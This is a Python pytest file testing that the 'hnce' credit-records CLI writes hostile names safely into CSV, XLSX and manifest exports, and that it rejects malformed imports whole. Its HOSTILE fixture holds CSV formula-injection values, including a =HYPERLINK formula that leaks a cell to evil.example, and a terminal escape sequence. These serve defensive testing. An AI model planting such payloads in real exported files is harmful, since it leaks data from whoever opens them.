"""Files out and files in, through the real commands on every storage: text from outside is
data in every file hnce writes (CSV and XLSX exports, --csv listings, the certificate
manifest, the declaration import's error report) and every file it reads (sync, unit and
declaration imports): formulas are never run, control characters never break a file,
a big cell or a stray byte is an error naming where, and an import is all or nothing."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from conftest import Person, World, error_fields, json_out, make_uscc
from test_completion import give

from hnce_cli.tabular import read_rows

YEAR = 2025
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Names a stranger could register before the text policy, or that are written straight
# into the database: each would run, break a row or act on a terminal if written as is.
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?leak="&C2,"点我")',
    "at": "@SUM(1)",
    "plus": "+1",
    "minus": "-1",
    "tab": "\t制表",
    "cr_first": "\r回车",
    "cr_inside": "张\r覆盖",
    "escape": "E\x1b[2J",
}
# How each is written: a leading ' before a formula character, controls spelled out.
WRITTEN = {
    "formula": "'" + HOSTILE["formula"], "at": "'@SUM(1)", "plus": "'+1", "minus": "'-1", "tab": "'\t制表",
    "cr_first": "'\r回车", "cr_inside": "张\r覆盖", "escape": "E\\x1b[2J",
}
FIELD_LIMIT = 1_048_576  # characters in one CSV cell (docs/exports.md)
SYNC_HEADER = ["身份证号", "姓名", "年度", "科目类型", "学时", "记录编号", "完成日期"]


def _rename(world: World, person: Person, name: str) -> None:
    """Straight into the database, past the text policy."""
    world.setup.execute("UPDATE professional SET name = :n WHERE id = :id", n=name, id=person.id)


@pytest.fixture
def hostile(world: World) -> dict[str, Person]:
    """One approved, passed person of unit A per hostile name, with Henan's own credits."""
    people = {}
    for kind, name in HOSTILE.items():
        person = world.approved_person()
        give(world, person, YEAR, "public", 30, source="online")
        give(world, person, YEAR, "professional", 60, source="base")
        _rename(world, person, name)
        people[kind] = person
    return people


def _no_formula(rows: list[list[str]]) -> None:
    """Every row as wide as the header (a CR or LF inside a cell did not split it), and no
    cell that a spreadsheet would run."""
    width = len(rows[0])
    for row in rows:
        assert len(row) == width, row
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"a formula cell: {cell!r}"


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _csv_file(path: Path) -> list[list[str]]:
    """A CSV file's rows; its bytes decoded as they are (read_text would turn a CR into LF)."""
    return _csv(path.read_bytes().decode("utf-8-sig"))


def _names_written(rows: list[list[str]], column: str) -> set[str]:
    index = rows[0].index(column)
    return {row[index] for row in rows[1:]}


def _xlsx(path: Path) -> tuple[str, list[tuple]]:
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    from openpyxl import load_workbook

    workbook = load_workbook(path, read_only=True)
    rows = list(workbook.worksheets[0].iter_rows(values_only=True))
    workbook.close()
    return sheet, rows


def test_completion_exports_write_hostile_names_as_text(world: World, hostile: dict[str, Person],
                                                        tmp_path: Path) -> None:
    """--csv, -o .csv and -o .xlsx of a unit's list: every hostile name is a text cell a
    spreadsheet shows and never runs; credits stay numbers."""
    unit = str(world.unit_a.id)
    listed = world.setup.run("completion", "--unit", unit, "--year", str(YEAR), "--csv", token=world.a_admin1.token)
    assert listed.returncode == 0, listed.stderr
    rows = _csv(listed.stdout)
    _no_formula(rows)
    assert set(WRITTEN.values()) <= _names_written(rows, "姓名")
    assert "\x1b" not in listed.stdout  # nothing a terminal would act on

    path = tmp_path / "名单.csv"
    done = world.setup.run("completion", "--unit", unit, "--year", str(YEAR), "-o", str(path),
                           token=world.a_admin1.token)
    assert done.returncode == 0, done.stderr
    rows = _csv_file(path)
    _no_formula(rows)
    assert set(WRITTEN.values()) <= _names_written(rows, "姓名")
    assert {r[rows[0].index("总学分")] for r in rows[1:]} == {"90"}  # a number, no quote

    book = tmp_path / "名单.xlsx"
    done = world.setup.run("completion", "--unit", unit, "--year", str(YEAR), "-o", str(book),
                           token=world.a_admin1.token)
    assert done.returncode == 0, done.stdout + done.stderr  # a control character used to make it exit 1
    sheet, cells = _xlsx(book)
    assert "<f>" not in sheet and "<f " not in sheet
    names = {row[cells[0].index("姓名")] for row in cells[1:]}
    # an XML reader sees a CR as a line feed; everything else is as written
    assert {WRITTEN[k] for k in HOSTILE if "cr" not in k} <= names
    assert all(not str(name).startswith(FORMULA_START) for name in names)
    totals = {row[cells[0].index("总学分")] for row in cells[1:]}
    assert totals == {90} and all(type(row[0]) is int for row in cells[1:])  # numeric cells


def test_sync_export_and_listing_csv_write_hostile_names_as_text(world: World, hostile: dict[str, Person],
                                                                 tmp_path: Path) -> None:
    out = world.setup.run("sync", "export", "--year", str(YEAR), token=world.admin.token)
    assert out.returncode == 0, out.stderr
    rows = _csv(out.stdout)
    _no_formula(rows)
    assert set(WRITTEN.values()) <= _names_written(rows, "姓名")
    assert {r[rows[0].index("学时")] for r in rows[1:]} == {"30", "60"}

    for name in ("hn.csv", "hn.xlsx"):
        path = tmp_path / name
        done = world.setup.run("sync", "export", "--year", str(YEAR), "-o", str(path), token=world.admin.token)
        assert done.returncode == 0, done.stdout + done.stderr
        if name.endswith(".csv"):
            _no_formula(_csv_file(path))
        else:
            sheet, cells = _xlsx(path)
            assert "<f>" not in sheet
            assert {row[cells[0].index("学时")] for row in cells[1:]} == {30, 60}
        # hnce reads its own export back as the names were stored
        back = {r["姓名"] for r in read_rows(path)}
        assert {HOSTILE[k] for k in ("formula", "at", "plus", "minus")} <= back

    # a listing's --csv (render.print_csv): pending registrants renamed
    for person, kind in zip(world.people_a, ("formula", "cr_inside", "escape"), strict=True):
        world.setup.execute("UPDATE professional SET name = :n WHERE id = :id", n=HOSTILE[kind], id=person.id)
    listed = world.setup.run("approve", "--list", "--csv", token=world.a_admin1.token)
    assert listed.returncode == 0, listed.stderr
    rows = _csv(listed.stdout)
    _no_formula(rows)
    assert {WRITTEN["formula"], WRITTEN["cr_inside"], WRITTEN["escape"]} <= _names_written(rows, "姓名")


def test_certificate_manifest_writes_hostile_names_as_text(world: World, hostile: dict[str, Person],
                                                           tmp_path: Path) -> None:
    proc = world.setup.run("certificate", "batch", "--year", str(YEAR), "--unit", str(world.unit_a.id),
                           "--out", str(tmp_path / "out"), "--json", token=world.a_admin1.token,
                           env={"HNCE_CERT_FONT_CACHE": str(tmp_path / "fonts")}, timeout=300)
    # the names with a control character cannot be printed: those people alone fail (exit 7)
    assert proc.returncode == 7, proc.stdout[-2000:] + proc.stderr[-2000:]
    rows = _csv_file(tmp_path / "out" / "manifest.csv")
    _no_formula(rows)
    assert {WRITTEN["formula"], WRITTEN["at"], WRITTEN["minus"]} <= _names_written(rows, "name")


def test_declaration_import_report_quotes_cells_as_text(world: World, tmp_path: Path) -> None:
    path = tmp_path / "申报.csv"
    path.write_text("id_number,form,year,credits\n"
                    f'"{HOSTILE["formula"]}",conference,{YEAR},5\n', encoding="utf-8")
    proc = world.setup.run("declare", "import", str(path), "--json", token=world.a_admin1.token)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    report = Path(json_out(proc)["error"]["details"]["report"])
    rows = _csv_file(report)
    _no_formula(rows)
    assert any(row[2].startswith("'=HYPERLINK") for row in rows[1:]), rows
    assert rows[1][0] == "2"


# --- files in ----------------------------------------------------------------------------------

def _sync_file(path: Path, rows: list[list[object]], encoding: str = "utf-8") -> Path:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(SYNC_HEADER)
    writer.writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def _credits(world: World) -> int:
    return world.setup.count("credit_record")


def test_a_cell_too_large_is_exit_2_naming_row_and_column_and_nothing_is_written(world: World,
                                                                                 tmp_path: Path) -> None:
    me = world.approved_person(name="王大格")
    good = [[me.id_number, "王大格", YEAR, "专业科目", 10, f"B-{i}", ""] for i in range(3)]
    path = _sync_file(tmp_path / "big.csv", [*good, [me.id_number, "x" * (FIELD_LIMIT + 1), YEAR]])
    proc = world.setup.run("sync", "import", str(path), "--json", token=world.admin.token)
    assert proc.returncode == 2, proc.stdout[:500] + proc.stderr[-500:]
    assert error_fields(proc) == ["row 5: 姓名"]
    error = json_out(proc)["error"]
    assert "第 5 行" in error["message"] and "姓名" in error["message"] and error["details"]["row"] == 5
    assert _credits(world) == 0  # the good rows before it were not written either
    shown = world.setup.run("sync", "import", str(path), token=world.admin.token)
    assert shown.returncode == 2 and "第 5 行「姓名」列" in shown.stderr


def test_cells_up_to_the_limit_are_read(world: World, tmp_path: Path) -> None:
    """Python's own limit is 131,072 characters: a 200,000-character note beside the
    columns is read (and ignored) instead of stopping the import."""
    path = tmp_path / "units.csv"
    path.write_text("name,uscc,region,备注\n"
                    f"河南大格会计师事务所有限公司,{make_uscc('410105', 'MA44CCCC3')},410105,{'注' * 200_000}\n",
                    encoding="utf-8")
    proc = world.setup.run("unit", "import", str(path), "--json", token=world.admin.token)
    assert proc.returncode == 0, proc.stdout[:500] + proc.stderr[-500:]
    assert json_out(proc)["created"] == 1


def test_unit_import_names_a_cell_too_large(world: World, tmp_path: Path) -> None:
    path = tmp_path / "units.csv"
    path.write_text(f"name,uscc,region\n{'单' * (FIELD_LIMIT + 5)},x,410105\n", encoding="utf-8")
    proc = world.setup.run("unit", "import", str(path), "--json", token=world.admin.token)
    assert proc.returncode == 2, proc.stdout[:500]
    assert error_fields(proc) == ["row 2: name"]


def test_a_stray_byte_in_a_utf8_file_is_named_by_its_line(world: World, tmp_path: Path) -> None:
    me = world.approved_person(name="赵杂字节")
    path = _sync_file(tmp_path / "stray.csv", [[me.id_number, "赵杂字节", YEAR, "公需科目", 5, f"S-{i}", ""]
                                               for i in range(4)])
    raw = bytearray(path.read_bytes())
    at = raw.index(b"S-2")  # line 4 (the header is line 1)
    raw[at:at] = b"\xa0"  # a lone continuation byte: not UTF-8, though GB18030 might take it
    path.write_bytes(bytes(raw))
    proc = world.setup.run("sync", "import", str(path), "--json", token=world.admin.token)
    assert proc.returncode == 2, proc.stdout
    error = json_out(proc)["error"]
    assert "第 4 行" in error["message"] and error["details"]["lines"] == [4], error
    assert "UTF-8" in error["problems"][0]["fix"]
    assert _credits(world) == 0


def test_a_gbk_file_from_excel_is_still_imported(world: World, tmp_path: Path) -> None:
    me = world.approved_person(name="钱国标")
    path = _sync_file(tmp_path / "gbk.csv", [[me.id_number, "钱国标", YEAR, "公需科目", 12, "G-1", "2025-05-01"]],
                      encoding="gbk")
    proc = world.setup.run("sync", "import", str(path), "--json", token=world.admin.token)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert json_out(proc)["added"] == 1


def test_rows_after_a_blank_row_keep_their_number_in_the_report(world: World, tmp_path: Path) -> None:
    me = world.approved_person(name="孙空行")
    path = _sync_file(tmp_path / "blank.csv", [[me.id_number, "孙空行", YEAR, "公需科目", 5, "K-1", ""],
                                               [], ["", "", "", "", "", "", ""],
                                               [me.id_number, "孙空行", YEAR, "公需科目", "x", "K-2", ""]])
    proc = world.setup.run("sync", "import", str(path), "--json", token=world.admin.token)
    assert proc.returncode == 7, proc.stdout
    result = json_out(proc)
    assert result["rows"] == 2 and result["added"] == 1
    assert [(p["row"], p["field"]) for p in result["problems"]] == [(5, "学时")]  # as the spreadsheet numbers it


def test_an_upload_cut_short_writes_nothing(remote_world: World) -> None:
    """The streamed import's last line says how many rows were sent: a body without it (a
    client stopped half way) is refused whole."""
    import httpx

    world = remote_world
    me = world.approved_person(name="周断流")
    lines = ['{"columns": ["身份证号", "姓名", "年度", "科目类型", "学时", "记录编号"]}',
             f'["{me.id_number}", "周断流", "2025", "公需科目", "5", "C-1"]']
    url = f"{world.setup.server.url}/api/v1/sync/import/stream"
    headers = {"Authorization": f"Bearer {world.admin.token}"}
    cut = httpx.post(url, content="\n".join(lines).encode(), headers=headers, timeout=30)
    assert cut.status_code == 422 and "上传不完整" in cut.json()["error"]["message"], cut.text
    assert _credits(world) == 0
    whole = httpx.post(url, content="\n".join([*lines, '{"end": 1}']).encode(), headers=headers, timeout=30)
    assert whole.status_code == 200 and whole.json()["added"] == 1, whole.text
